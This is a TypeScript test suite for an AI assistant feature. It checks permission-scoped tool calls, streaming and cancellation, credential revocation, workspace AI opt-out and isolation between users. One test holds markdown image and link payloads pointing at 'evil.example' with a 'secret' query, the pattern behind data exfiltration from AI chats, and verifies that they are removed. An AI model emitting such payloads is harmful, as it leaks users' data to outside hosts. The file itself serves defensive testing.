// Runs with a model: what it says is streamed, what it wants is used under its person's rights, and whatever goes wrong
// has a name. Nothing of what was asked or read is in events or logs.
import { afterAll, beforeEach, describe, expect, test } from "vitest";
import { answerTo, discussPath, ended, partsOf, readMessage, say, talkers } from "../../../test/discuss.ts";
import { eventually } from "../../../test/eventually.ts";
import { letAiIn } from "../../../test/mcp.ts";
import { scriptedModel } from "../../../test/scripted-model.ts";
import { newProject, newTask } from "../../../test/work.ts";
import { newKey, service } from "../../../test/world.ts";

const provider = await scriptedModel();
const running = service({ roles: ["api", "worker", "realtime"], ...provider.config });
afterAll(() => provider.close());
beforeEach(() => provider.clear());
const toolsAsked = () =>
  provider.asked.at(-1)?.body.tools.map((tool: { function: { name: string } }) => tool.function.name);
const eventsOf = async (person: Parameters<typeof say>[0], home: Parameters<typeof say>[1], id: string) =>
  (await person.call("GET", discussPath(home, `messages/${id}/run-events`))).body.items;

describe("a run", () => {
  test("uses tools under the rights of its person, names what it relies on, and keeps words out of everything else", async () => {
    const { home, ada, bob } = await talkers(running);
    const project = await newProject(home, { visibility: "private" });
    const task = await newTask(ada, project.id, { title: "Cut the canary gears" });
    provider.say(
      { text: ["I look."], calls: [{ name: "get_task", args: { code: task.code } }] },
      { text: ["It is ", `about gears: ${task.code}.`] },
    );
    const answer = await answerTo(ada, home, "What is it about?");
    expect(answer).toMatchObject({
      generation_state: "completed",
      content: `I look.\n\nIt is about gears: ${task.code}.`,
      generation_error: null,
    });
    expect(partsOf(answer, "tool_activity")).toMatchObject([{ tool: "get_task", state: "completed" }]);
    expect(partsOf(answer, "entity_references")[0].references).toEqual([
      { kind: "task", id: task.id, code: task.code },
    ]);
    expect(partsOf(answer, "runtime_text")).toEqual([]);
    expect(JSON.stringify(provider.asked[1]?.body)).toContain("Cut the canary gears");
    const events = await eventsOf(ada, home, answer.id);
    expect(events.map(({ type }: { type: string }) => type)).toEqual([
      "started",
      "tool_started",
      "tool_ended",
      "completed",
    ]);
    expect(JSON.stringify([events, answer.parts])).not.toContain("canary");
    // Somebody else's assistant sees what they see.
    provider.say({ calls: [{ name: "get_task", args: { code: task.code } }] }, { text: ["I cannot see it."] });
    const other = await answerTo(bob, home, "What is it about?");
    expect(partsOf(other, "tool_activity")).toMatchObject([{ state: "refused" }]);
    expect(JSON.stringify(provider.asked.at(-1)?.body)).not.toContain("canary gears");
    const steps = await running.asOwner<{ asked: string; answered: string }>(
      "select asked, answered from discuss_steps",
    );
    expect(steps.length).toBeGreaterThan(3);
    expect(JSON.stringify(steps)).not.toContain("canary");
  });

  test("shows its text while it is written, whole each time, and stops when it is asked to", async () => {
    const { home, ada } = await talkers(running);
    provider.say({ text: ["Once ", "upon ", "a time"], after: "silence" });
    const { assistant_message: message } = await say(ada, home, "Tell me a story");
    const running_ = await eventually(async () => {
      const now = await readMessage(ada, home, message.id);
      expect(partsOf(now, "runtime_text")[0]?.text).toBe("Once upon a time");
      return now;
    });
    expect(running_.generation_state).toBe("running");
    expect(partsOf(running_, "runtime_text")[0]).toMatchObject({
      producer_fence: 1,
      generation: 1,
      offset: 16,
      run_id: message.run_id,
    });
    const stopped = await ada.call("POST", discussPath(home, `messages/${message.id}/cancel`));
    expect(["cancel_requested", "failed"]).toContain(stopped.body.generation_state);
    const last = await ended(ada, home, message.id);
    expect(last).toMatchObject({
      generation_state: "failed",
      generation_error: { code: "cancelled" },
      content: "Once upon a time",
    });
    await expect.poll(() => provider.asked[0]?.aborted).toBe(true);
  });

  test("comes after the one before it, and stopping one that waits leaves the others", async () => {
    const { home, ada } = await talkers(running);
    const first = Promise.withResolvers<void>();
    provider.say({ before: first.promise, text: ["First."] }, { text: ["Third."] });
    const one = await say(ada, home, "One?");
    const two = await say(ada, home, "Two?");
    const three = await say(ada, home, "Three?");
    await expect.poll(() => provider.asked.length).toBe(1);
    expect((await readMessage(ada, home, two.assistant_message.id)).generation_state).toBe("queued");
    await ada.call("POST", discussPath(home, `messages/${two.assistant_message.id}/cancel`));
    first.resolve();
    expect((await ended(ada, home, three.assistant_message.id)).content).toBe("Third.");
    expect((await ended(ada, home, one.assistant_message.id)).content).toBe("First.");
    expect(JSON.stringify(provider.asked[1]?.body.messages)).toContain("First.");
  });

  test("of many turns are answered in their order", async () => {
    const { home, ada } = await talkers(running);
    provider.always((request) => ({ text: [`Answer to ${request.messages.at(-1).content}`] }));
    const turns = [];
    for (let count = 0; count < 15; count++) turns.push(await say(ada, home, `question ${count}`));
    await ended(ada, home, turns.at(-1).assistant_message.id);
    const asked = provider.asked.map(({ body }) => body.messages.at(-1).content);
    expect(asked).toEqual(turns.map((_, count) => `question ${count}`));
  });

  test("an answer that is far too large is cut off, and not asked for again", async () => {
    const { home, ada } = await talkers(running);
    const before = provider.asked.length;
    provider.say({ text: Array.from({ length: 40 }, () => "x".repeat(1_000_000)) });
    const answer = await answerTo(ada, home, "Hello?");
    expect(answer).toMatchObject({ generation_state: "failed", generation_error: { code: "answer_too_large" } });
    expect(provider.asked.length - before).toBe(1);
  });

  test("that a provider fails is told, and can be tried again by its person", async () => {
    const { home, ada } = await talkers(running);
    provider.say({ text: ["Half"], after: "cut" }, { text: ["Half"], after: "cut" }, { text: ["Half"], after: "cut" });
    const answer = await answerTo(ada, home, "Hello?");
    expect(answer).toMatchObject({ generation_state: "failed", generation_error: { code: "model_unavailable" } });
    const [part] = partsOf(answer, "interaction");
    expect(part).toMatchObject({ interaction_kind: "recovery", state: "open" });
    provider.say({ text: ["Here I am."] });
    const path = discussPath(home, `interactions/${part.interaction_id}/decision`);
    const decided = await ada.call("POST", path, { body: { version: 1, decision: "choose", choice_id: "retry" } });
    expect(decided.status, decided.text).toBe(200);
    expect((await ended(ada, home, decided.body.assistant_message.id)).content).toBe("Here I am.");
    provider.say({ text: ["No."], after: "refusal" });
    expect((await answerTo(ada, home, "Please?")).generation_error.code).toBe("model_refused");
  });

  test("that is cut off by its length says so, and one that is empty can be tried again", async () => {
    const { home, ada } = await talkers(running);
    provider.say({ text: ["Once upon a time"], after: "length" });
    const cut = await answerTo(ada, home, "Tell me a story");
    expect(cut).toMatchObject({ generation_state: "completed", generation_error: null });
    expect(cut.content).toMatch(/^Once upon a time\n\n.*cut off.*length/);
    provider.say({ text: [] });
    const empty = await answerTo(ada, home, "And then?");
    expect(empty).toMatchObject({ generation_state: "failed", generation_error: { code: "answer_empty" } });
    expect(partsOf(empty, "interaction")).toMatchObject([{ interaction_kind: "recovery", state: "open" }]);
    // A model that used a tool has done something: the answer is there, and says that it has no words.
    provider.say({ calls: [{ name: "list_projects", args: {} }] }, { text: [" "] });
    const silent = await answerTo(ada, home, "Which Projects are there?");
    expect(silent).toMatchObject({
      generation_state: "completed",
      content: expect.stringContaining("without an answer"),
    });
    // Nothing is left of a picture without words.
    provider.say({ text: ["![](https://example.com/a.png)"] });
    expect((await answerTo(ada, home, "Show it to me")).content).toContain("without an answer");
  });

  test("makes no call of what is none, and goes on", async () => {
    const { home, ada } = await talkers(running);
    provider.say(
      {
        calls: [
          { name: "find", json: '{"query":' },
          { name: "apply_change_set", args: {} },
          { name: "find", args: { q: 1 } },
        ],
      },
      { text: ["Sorry."] },
    );
    const answer = await answerTo(ada, home, "Find it");
    expect(partsOf(answer, "tool_activity").map(({ state }) => state)).toEqual(["refused", "refused", "refused"]);
    expect(answer.content).toBe("Sorry.");
  });

  test("never exceeds the scopes of the credential that queued it, and ends with it", async () => {
    const { home, ada } = await talkers(running);
    const task = await newTask(ada, (await newProject(home)).id);
    const sent = async (scopes: string[]) => {
      const token = await home.token(scopes);
      const path = discussPath(home, "messages");
      const { body } = await ada.bearer(token, "POST", path, { body: { content: "Read it" }, key: newKey() });
      return { token, id: body.assistant_message.id as string };
    };
    provider.say({ calls: [{ name: "get_task", args: { code: task.code } }] }, { text: ["No."] });
    const alone = await sent(["svc:discuss"]);
    expect(partsOf(await ended(ada, home, alone.id), "tool_activity")).toMatchObject([{ state: "refused" }]);
    provider.say(
      {
        calls: [
          { name: "get_task", args: { code: task.code } },
          { name: "create_task", args: { project: task.code.split("-")[0], title: "More" } },
        ],
      },
      { text: ["Read."] },
    );
    const reading = await sent(["svc:discuss", "svc:read"]);
    expect(partsOf(await ended(ada, home, reading.id), "tool_activity").map(({ state }) => state)).toEqual([
      "completed",
      "refused",
    ]);
    expect(toolsAsked()).not.toContain("create_task");
    const gone = Promise.withResolvers<void>();
    provider.say(
      { before: gone.promise, calls: [{ name: "get_task", args: { code: task.code } }] },
      { text: ["Read."] },
    );
    const revoked = await sent(["svc:discuss", "svc:read"]);
    await expect.poll(() => provider.asked.length).toBeGreaterThan(4);
    await running.asOwner("update credentials set revoked_at = now() where secret_hash = sha256($1::bytea)", [
      revoked.token,
    ]);
    gone.resolve();
    expect((await ended(ada, home, revoked.id)).generation_error.code).toBe("credential_ended");
  });

  test("sends nothing to a model once the Workspace lets no AI in, and still finds and quotes", async () => {
    const { home, ada } = await talkers(running);
    await letAiIn(ada, home.workspaceId, false);
    const answer = await answerTo(ada, home, "my overdue tasks");
    expect([answer.generation_state, answer.content, provider.asked.length]).toEqual([
      "completed",
      "Overdue: There is none.",
      0,
    ]);
    await letAiIn(ada, home.workspaceId, true);
    const off = Promise.withResolvers<void>();
    provider.say({ before: off.promise, calls: [{ name: "list_projects", args: {} }] }, { text: ["Never said"] });
    const { assistant_message } = await say(ada, home, "And now?");
    await expect.poll(() => provider.asked.length).toBe(1);
    await letAiIn(ada, home.workspaceId, false);
    off.resolve();
    expect((await ended(ada, home, assistant_message.id)).generation_error.code).toBe("ai_access_disabled");
    expect(provider.asked.length).toBe(1);
  });
});

test("an answer loads nothing from outside", async () => {
  const { home, ada } = await talkers(running);
  provider.say({
    text: [
      '![x](https://evil.example/?q=secret) [go](https://evil.example) <img src="https://evil.example"> ' +
        "[ours](/tasks/ENG-1)\n[r]: https://evil.example",
    ],
  });
  const { content } = await answerTo(ada, home, "Hello");
  expect(content).not.toContain("evil.example");
  expect(content).toContain("[ours](/tasks/ENG-1)");
});

test("two people with different rights ask the same: neither learns a word of the other's", async () => {
  const { home, ada, bob } = await talkers(running);
  const project = await newProject(home, { visibility: "private" });
  await newTask(ada, project.id, { title: "Secret canary plan" });
  provider.always((request) =>
    request.messages.at(-1).role === "tool"
      ? { text: ["Found: ", String(request.messages.at(-1).content).slice(0, 500)] }
      : { calls: [{ name: "list_tasks", args: { title: "canary" } }] },
  );
  expect((await answerTo(ada, home, "Which plans are there?")).content).toContain("Secret canary plan");
  expect((await answerTo(bob, home, "Which plans are there?")).content).not.toContain("Secret canary plan");
});
